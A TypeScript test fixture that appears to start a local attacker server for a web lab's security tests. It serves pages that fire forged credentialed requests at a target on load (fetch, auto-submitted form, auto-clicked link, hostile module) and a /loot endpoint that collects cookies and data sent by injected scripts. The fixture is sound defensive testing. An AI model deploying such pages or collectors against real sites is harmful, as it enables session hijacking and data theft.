// The attacker's server on its own port: pages that attack their visitors, a script to inject into the lab's
// page, and a collector of the data that the script sends. It is 127.0.0.1, the lab's own site, and localhost, another one.
import { readFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { text } from 'node:stream/consumers';
import { listen } from '@scale-out-lab/core/testing/listen';
import { until } from '@scale-out-lab/launcher/testing/until';

interface Loot {
  /** The cookies of the request that brought the loot. */
  readonly cookie: string;
  readonly body: string;
}

export type Attacker = Awaited<ReturnType<typeof startAttacker>>;

/** Pages that send a request to the target by themselves as soon as they are opened. */
const pages = {
  fetch: (target: string) =>
    `<script>fetch('${target}', { method: 'POST', mode: 'no-cors', credentials: 'include' })</script>`,
  form: (target: string) =>
    `<form method="post" action="${target}"></form><script>document.forms[0].submit()</script>`,
  link: (target: string) => `<a href="${target}">A prize!</a><script>document.links[0].click()</script>`,
  // Attacks the lab at the target at once, and again at a click, which allows it to open windows.
  hostile: (target: string) =>
    `<button>A prize!</button><script type="module">
      import { attack } from '/hostile.js';
      document.querySelector('button').onclick = () => attack('${target}', 'clicked');
      attack('${target}', 'opened');
    </script>`,
};

/** Scripts that a page of any origin may import. */
const scripts = ['injected.js', 'hostile.js'];

export async function startAttacker() {
  const loot: Loot[] = [];
  const server = createServer(async (request, response) => {
    const { pathname, searchParams } = new URL(request.url ?? '/', 'http://attacker');
    const target = searchParams.get('target');
    if (pathname === '/loot') {
      loot.push({ cookie: request.headers.cookie ?? '', body: await text(request) });
      response.end();
    } else if (scripts.includes(pathname.slice(1))) {
      response.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' });
      response.end(await readFile(new URL(pathname.slice(1), import.meta.url)));
    } else {
      const page = Object.entries(pages).find(([name]) => pathname === `/${name}`)?.[1];
      response.writeHead(page ? 200 : 404, { 'content-type': 'text/html' });
      response.end(page && target ? page(target) : '');
    }
  });
  const { port, url, close } = await listen(server);
  return {
    stop: close,
    /** On the same site as the lab. */
    sameSite: url,
    otherSite: `http://localhost:${port}`,
    /** Resolves to the loot since the last call, once there are at least `count` pieces. */
    async collect(count: number): Promise<readonly Loot[]> {
      await until(() => loot.length >= count);
      return loot.splice(0);
    },
  };
}
